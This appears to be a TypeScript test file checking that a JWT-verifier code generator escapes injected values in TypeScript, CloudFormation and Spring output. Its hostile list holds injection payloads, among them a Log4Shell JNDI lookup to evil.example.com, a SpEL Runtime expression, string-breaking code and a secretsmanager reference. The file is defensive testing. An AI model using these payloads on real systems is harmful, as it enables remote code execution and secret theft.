import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appCode } from '../../../src/core/appCode/appCode.ts';
import { type CodeTarget, codeTargets } from '../../../src/core/appCode/request.ts';
import { BuiltCode } from './builtCode.ts';
import { readYaml } from './readYaml.ts';

/** Texts that end a string, a comment or a line in one of the languages, or are more than a text there. */
const hostile: readonly string[] = [
	"'; process.exit(1); //",
	'"; throw 1; //',
	`\`\${process.exit(1)}\``,
	`\${jndi:ldap://evil.example.com/a}`,
	'#{T(java.lang.Runtime).getRuntime()}',
	'*/ process.exit(1); /*',
	'\\',
	"\\'",
	'\\u0022; evil(); //',
	'\\u000a evil();',
	'line\nbreak',
	'carriage\r\nreturn',
	'\u2028line separator\u2029',
	'\u0000null',
	'tab\tand bell\u0007',
	'!!js/function "evil"',
	'!Ref Evil',
	'&anchor *alias',
	'key: value',
	'- item',
	'# comment',
	'--- \n...',
	'yes',
	'null',
	'0x10',
	'{ flow: [map] }',
	'</script><!--',
	'\u202eright to left\u2066',
	'𝒜 astral 😀',
	'\ud800 lone surrogate',
	'é and 漢字',
	' leading and trailing ',
	'%{env}',
	'@value@',
];

const request = {
	expectations: {
		issuer: ['https://idp.example.com/'.concat(...hostile)],
		tokenUse: 'access',
		typ: hostile.join(''),
		clientId: hostile,
		audience: hostile,
		scope: hostile,
		group: hostile,
		subject: hostile.join(''),
		require: hostile,
	},
	jwksUri: 'https://idp.example.com/keys?'.concat(...hostile),
} as const;

const textsOf = (target: CodeTarget): readonly string[] => appCode(target, request).files.map(({ code }) => code);

describe('hostile values in code', () => {
	let built: BuiltCode;

	beforeAll(async () => {
		built = await BuiltCode.create();
	});

	afterAll(() => built.remove());

	it('are nothing but printable ASCII, in lines of their own', () => {
		for (const code of codeTargets.flatMap(textsOf)) expect(code.replaceAll('§', '').replaceAll('…', '')).toMatch(/^[\x20-\x7e\n]*$/);
	});

	it('stay texts in TypeScript', async () => {
		for (const target of ['aws-jwt-verify', 'jose'] as const) await built.write(`${target}.ts`, textsOf(target).join(''));
		// What the compiler and the engine read out of the literals is what went in: no string ended early.
		const [verify = '', jose = ''] = [...textsOf('aws-jwt-verify'), ...textsOf('jose')];
		await built.write(
			'lists.ts',
			`export const lists = ${/const audiences = (.*);/.exec(verify)?.[1]};\nexport const options = ${/audience: (\[.*\]),/.exec(jose)?.[1]};\n`,
		);
		expect(await built.compile()).toBe('');
		const { lists, options } = (await built.load('lists.ts')) as unknown as Record<string, unknown>;
		expect(lists).toEqual(hostile);
		expect(options).toEqual(hostile);
	});

	it('stay texts in CloudFormation', () => {
		const parsed = readYaml<CloudFormation>(textsOf('api-gateway').join(''));
		const { TokenAuthorizer: authorizer, ExampleRoute: route } = parsed.Resources;
		expect(authorizer.Properties.JwtConfiguration).toEqual({ Issuer: request.expectations.issuer[0], Audience: hostile });
		expect(route.Properties.AuthorizationScopes).toEqual(hostile);
	});

	it('stay texts in the properties of Spring, and no property is replaced', () => {
		const [properties = ''] = textsOf('spring');
		const { tokens } = readYaml<{ readonly tokens: Readonly<Record<string, unknown>> }>(properties);
		const escaped = hostile.map((text) => text.replaceAll('${', '\\${'));
		expect(tokens['client-ids']).toEqual(escaped);
		expect(tokens['scopes']).toEqual(escaped);
		expect(tokens['required-claims']).toEqual(escaped);
		expect(properties.replaceAll('\\\\${', '')).not.toContain('${');
	});

	it('do not reach the Java code at all', () => {
		const [, java = ''] = textsOf('spring');
		const [, plain = ''] = appCode('spring', {
			expectations: {
				...request.expectations,
				issuer: ['https://a'],
				typ: 'JWT',
				subject: 's',
				clientId: ['c'],
				audience: ['a'],
				scope: ['s'],
				group: ['g'],
				require: ['r'],
			},
			jwksUri: 'https://a/keys',
		}).files.map(({ code }) => code);
		expect(java).toBe(plain);
	});

	it.each(['client', 'scope', 'issuer'])('never become a reference that CloudFormation resolves: %s', (where) => {
		const reference = '{{resolve:secretsmanager:prod/password}}';
		const { files, notes } = appCode('api-gateway', {
			expectations: {
				issuer: [where === 'issuer' ? reference : 'https://a'],
				tokenUse: 'access',
				clientId: [where === 'client' ? reference : 'app'],
				scope: [where === 'scope' ? reference : 'read'],
			},
			jwksUri: 'https://a/keys',
		});
		expect(files[0]?.code).not.toContain('{{');
		expect(files[0]?.code).toContain('!Ref FillIn');
		expect(notes).toContainEqual({ code: 'dynamic-reference' });
	});
});

interface CloudFormation {
	readonly Resources: {
		readonly TokenAuthorizer: { readonly Properties: { readonly JwtConfiguration: unknown } };
		readonly ExampleRoute: { readonly Properties: { readonly AuthorizationScopes: unknown } };
	};
}
